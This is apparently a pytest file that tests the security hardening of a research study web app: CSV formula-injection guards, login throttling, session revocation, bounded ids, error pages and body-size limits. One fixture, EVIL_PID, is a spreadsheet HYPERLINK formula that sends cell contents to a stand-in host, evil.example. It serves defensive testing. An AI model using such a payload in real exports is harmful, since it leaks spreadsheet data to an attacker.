"""Hardening of the study app, each through the real app (TestClient): CSV
formula injection, login throttling under concurrency, sessions that end,
bounded ids, a generic error page with security headers, the request-size
cap and the HTTPS-only cookie."""

from __future__ import annotations

import json
import re
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pandas as pd
from fastapi.testclient import TestClient

from sandwich.cli import main
from sandwich.feedback.analysis.export import export_labels
from sandwich.feedback.analysis.label_frame import read_labels
from sandwich.feedback.store.db import session_factory
from sandwich.feedback.store.studies import get_study
from sandwich.feedback.web.app import create_app
from sandwich.feedback.web.security import LoginThrottle, set_researcher

from .conftest import PASSWORD, Lab, truth_of  # type: ignore[import-not-found]

EVIL_PID = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options")


def _login_csrf(client: TestClient) -> str:
    page = client.get("/login").text
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]


def _login(client: TestClient, user: str, password: str = PASSWORD) -> int:
    csrf = _login_csrf(client)
    form = {"username": user, "password": password, "csrf": csrf}
    return client.post("/login", data=form, follow_redirects=False).status_code


def _pid_rater(lab: Lab, study: str, pid: str) -> str:
    r = lab.client.get(f"/s/{study}/start", params={"PID": pid}, follow_redirects=False)
    assert r.status_code == 303, r.text
    return r.headers["location"].rsplit("/", 1)[1]


# --- 4. CSV formula injection -------------------------------------------------------------


# a study that accepts any participant id (the default pattern would refuse these PIDs
# at the door; the CSV guard must hold for studies that loosen it)
ANY_PID = {"pid_pattern": r".+", "max_pids_per_address": None}


def test_csv_cells_that_look_like_formulas_are_neutralised(lab, researcher, tmp_path) -> None:
    study = lab.study(entry=ANY_PID)
    reasons = iter(["first", "=1+2", "+SUM(A1)", "-2+3", "@cmd", "'=already quoted", "ok"])
    token = _pid_rater(lab, study, EVIL_PID)
    csrf = lab.start(token)
    while (cur := lab.current(token)) is not None:
        lab.answer(token, csrf, cur[0], truth_of(cur[1]), reason=next(reasons, "fine"))
    csv_text = researcher.get(f"/dashboard/{study}/labels.csv").text
    with lab.Sessions() as s:
        export_labels(s, get_study(s, study), tmp_path / "out.csv")
        export_labels(s, get_study(s, study), tmp_path / "out.jsonl")
    for text in (csv_text, (tmp_path / "out.csv").read_text()):
        cells = pd.read_csv(pd.io.common.StringIO(text), dtype=str, keep_default_na=False)
        # the pid: namespace already keeps the PID from starting a cell; reasons need the guard
        assert set(cells["rater_id"]) == {"pid:" + EVIL_PID}
        for cell in cells["reason"]:
            assert not cell or cell[0] not in "=+-@\t\r", repr(cell)
        assert "'=1+2" in set(cells["reason"]) and "''=already quoted" in set(cells["reason"])
        assert "ok" in set(cells["reason"])
        # numbers stay numbers
        assert pd.to_numeric(cells["confidence"]).between(0.5, 1).all()
        assert pd.to_numeric(cells["seconds"]).ge(0).all()
    raw = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert {r["rater_id"] for r in raw} == {"pid:" + EVIL_PID}  # JSONL stays raw
    assert "=1+2" in {r["reason"] for r in raw}
    # read back (as the human supervisor does), the CSV gives the raw strings again
    back = read_labels(tmp_path / "out.csv", keep_training=True)
    assert set(back["rater_id"]) == {"pid:" + EVIL_PID}
    from_jsonl = read_labels(tmp_path / "out.jsonl", keep_training=True)
    pd.testing.assert_frame_equal(back, from_jsonl)


def test_neutralise_and_restore_are_inverse() -> None:
    from sandwich.feedback.analysis.csv_safe import neutralise, neutralise_frame, restore

    cells = ["=1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''-x", "'plain", "a=b", "", "1.5"]
    guarded = [neutralise(c) for c in cells]
    assert guarded[:8] == ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "''=x", "'''-x"]
    assert guarded[8:] == cells[8:]
    assert [restore(g) for g in guarded] == cells
    frame = pd.DataFrame({"pid": ["-3", "ok"], "confidence": [-0.5, 0.7], "n": [-1, 2]})
    out = neutralise_frame(frame)
    assert list(out["pid"]) == ["'-3", "ok"]
    assert out["confidence"].tolist() == [-0.5, 0.7] and out["n"].tolist() == [-1, 2]


def test_human_supervisor_reads_a_neutralised_csv_like_the_database(lab, tmp_path) -> None:
    from sandwich.supervision import SUPERVISORS

    study = lab.study(entry=ANY_PID)
    for k in range(8):
        lab.finish(_pid_rater(lab, study, f"-{k}+1"))  # PIDs that would start a formula
    with session_factory(lab.engine)() as s:
        export_labels(s, get_study(s, study), tmp_path / "export.csv")
    assert "pid:-0+1" in (tmp_path / "export.csv").read_text()

    def build(**params: object):  # type: ignore[no-untyped-def]
        return SUPERVISORS.build("human", condition="assisted", method="dawid-skene", **params)

    from_file = build(path=str(tmp_path / "export.csv"))
    from_db = build(db=lab.url, study=study)
    a = from_db.fit([], None, 0).p_true_
    b = from_file.fit([], None, 0).p_true_
    assert len(a) >= 6 and a.equals(b)
    assert from_db.data_fingerprint() == from_file.data_fingerprint()


# --- 5. login throttling -----------------------------------------------------------------


def _frozen_lab(tmp_path: Path, **kw: float) -> tuple[Lab, LoginThrottle]:
    """A lab whose app's throttle runs on a clock that stands still."""
    lab = Lab(tmp_path)
    throttle = LoginThrottle(clock=lambda: 1000.0, **kw)  # type: ignore[arg-type]
    lab.client = TestClient(create_app(lab.url, login_throttle=throttle))
    with lab.Sessions.begin() as s:
        set_researcher(s, "ada", PASSWORD)
    return lab, throttle


def test_concurrent_wrong_passwords_are_counted_before_hashing(tmp_path) -> None:
    lab, _ = _frozen_lab(tmp_path)
    csrf = _login_csrf(lab.client)
    form = {"username": "ada", "password": "wrong guess", "csrf": csrf}
    with ThreadPoolExecutor(20) as pool:
        codes = list(
            pool.map(
                lambda _: lab.client.post("/login", data=form, follow_redirects=False).status_code,
                range(20),
            )
        )
    assert sorted(codes) == [401] * 5 + [429] * 15, codes
    r = lab.client.post("/login", data={**form, "password": PASSWORD}, follow_redirects=False)
    assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1


def test_password_spraying_from_one_address_is_slowed(tmp_path) -> None:
    lab, _ = _frozen_lab(tmp_path, free_per_address=6)  # default 20: slower to test
    csrf = _login_csrf(lab.client)
    codes = [
        lab.client.post(
            "/login", data={"username": f"user{i}", "password": PASSWORD, "csrf": csrf}
        ).status_code
        for i in range(10)
    ]
    assert codes == [401] * 6 + [429] * 4  # one guess per username, yet slowed


def test_a_guesser_elsewhere_cannot_lock_the_researcher_out(tmp_path) -> None:
    lab, _ = _frozen_lab(tmp_path)
    attacker = TestClient(lab.client.app, client=("203.0.113.9", 5000))
    assert [_login(attacker, "ada", f"guess {i}") for i in range(8)] == [401] * 5 + [429] * 3
    ada = TestClient(lab.client.app, client=("198.51.100.7", 5000))
    assert _login(ada, "ada") == 303
    assert ada.get("/dashboard").status_code == 200


def test_long_usernames_never_reach_the_throttle(tmp_path) -> None:
    lab, throttle = _frozen_lab(tmp_path)
    csrf = _login_csrf(lab.client)
    for n in (65, 5000, 60_000):
        r = lab.client.post("/login", data={"username": "x" * n, "password": "p", "csrf": csrf})
        assert r.status_code == 401
    assert max(len("".join(k)) for k in throttle.entries()) < 64
    assert throttle.entries() == [("addr", "testclient")]


# --- 6. sessions end on logout and password change ------------------------------------------


def _copy(client: TestClient) -> TestClient:
    other = TestClient(client.app)
    other.cookies.update(client.cookies)
    return other


def test_logout_ends_every_copy_of_the_session(lab, researcher) -> None:
    study = lab.study()
    stolen = _copy(researcher)
    assert stolen.get(f"/dashboard/{study}/labels.csv").status_code == 200
    page = researcher.get("/dashboard").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]
    assert (
        researcher.post("/logout", data={"csrf": csrf}, follow_redirects=False).status_code == 303
    )
    r = stolen.get(f"/dashboard/{study}/labels.csv", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/login"
    assert _login(researcher, "ada") == 303  # logging in again works
    assert researcher.get("/dashboard").status_code == 200


def test_password_change_ends_sessions(lab, researcher, monkeypatch) -> None:
    study = lab.study()
    assert researcher.get(f"/dashboard/{study}").status_code == 200
    monkeypatch.setenv("SANDWICH_DB", lab.url)
    monkeypatch.setenv("SANDWICH_RESEARCHER_PASSWORD", "a brand new passphrase")
    assert main(["study", "researcher", "ada"]) == 0
    r = researcher.get(f"/dashboard/{study}/labels.csv", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/login"
    assert _login(researcher, "ada", "a brand new passphrase") == 303


# --- 7. bounded ids, generic errors, headers everywhere -------------------------------------


def test_huge_ids_are_a_clear_422_with_security_headers(lab) -> None:
    token = lab.invite(lab.study())[0]
    csrf = lab.start(token)
    # assignments are named by opaque keys: an overlong key is a clear 422 naming the field
    r = lab.answer(token, csrf, "k" * 65, True)
    assert r.status_code == 422 and "assignment_id" in r.text, r.text
    assert all(h in r.headers for h in HEADERS)
    r = lab.client.get(f"/r/{token}/feedback/{'k' * 65}")
    assert r.status_code == 422 and all(h in r.headers for h in HEADERS)
    # numbers (the old row ids, 2^63 among them) name nothing: never a 500
    for aid in (2**63, 2**31, 0, -1):
        r = lab.answer(token, csrf, aid, True)
        assert r.status_code < 500 and all(h in r.headers for h in HEADERS), (aid, r.text)
        r = lab.client.get(f"/r/{token}/feedback/{aid}")
        assert r.status_code == 404 and all(h in r.headers for h in HEADERS)
    assert lab.labels() == []


def test_an_unhandled_error_is_a_plain_500_page_with_headers(lab) -> None:
    app = lab.client.app

    @app.get("/boom")  # type: ignore[misc]
    def boom() -> None:
        raise RuntimeError("secret internals /etc/passwd")

    r = lab.client.get("/boom")
    assert r.status_code == 500 and "something went wrong" in r.text
    assert "secret internals" not in r.text and "Traceback" not in r.text
    assert all(h in r.headers for h in HEADERS)
    for path in ("/static/app.js", "/nope", "/login"):
        assert all(h in lab.client.get(path).headers for h in HEADERS), path


# --- 8. request size ---------------------------------------------------------------------------


def test_large_bodies_are_refused_before_parsing(lab) -> None:
    big = {"username": "x" * (1 << 20), "password": "p", "csrf": "bad"}
    r = lab.client.post("/login", data=big)
    assert r.status_code == 413 and all(h in r.headers for h in HEADERS)

    def chunks():  # no Content-Length: counted as it streams
        for _ in range(100):
            yield b"a" * 1024

    r = lab.client.post(
        "/login", content=chunks(), headers={"content-type": "application/x-www-form-urlencoded"}
    )
    assert r.status_code == 413
    small = TestClient(create_app(lab.url, max_body=2048))
    assert small.post("/login", data={"username": "x" * 4000}).status_code == 413
    assert small.post("/login", data={"username": "x" * 100}).status_code == 403  # CSRF


# --- 9. HTTPS-only cookie -------------------------------------------------------------------


def test_https_only_marks_the_session_cookie_secure(lab, monkeypatch) -> None:
    plain = TestClient(create_app(lab.url), base_url="https://testserver")
    assert "secure" not in plain.get("/login").headers["set-cookie"].lower()
    monkeypatch.setenv("SANDWICH_HTTPS_ONLY", "1")
    https = TestClient(create_app(lab.url), base_url="https://testserver")
    r = https.get("/login")
    assert "; secure" in r.headers["set-cookie"].lower()
    assert r.headers["strict-transport-security"].startswith("max-age=")


def test_real_server_caps_streamed_bodies_and_serves_https_only(tmp_path, monkeypatch) -> None:
    import httpx

    from sandwich.feedback.web.server import ServerProcess

    monkeypatch.setenv("SANDWICH_HTTPS_ONLY", "1")
    monkeypatch.setenv("SANDWICH_MAX_BODY", "4096")
    url = f"sqlite:///{tmp_path / 'srv.sqlite'}"
    with ServerProcess(url, log=tmp_path / "server.log") as server:
        r = httpx.get(f"{server.url}/login")
        assert "; secure" in r.headers["set-cookie"].lower()
        assert "strict-transport-security" in r.headers

        def chunks():  # chunked: no Content-Length
            for _ in range(64):
                yield b"a" * 1024

        r = httpx.post(
            f"{server.url}/login",
            content=chunks(),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
        assert r.status_code == 413 and "x-frame-options" in r.headers
        r = httpx.post(f"{server.url}/login", data={"username": "x" * 5000})
        assert r.status_code == 413
        assert httpx.get(f"{server.url}/healthz").status_code == 200  # still serving
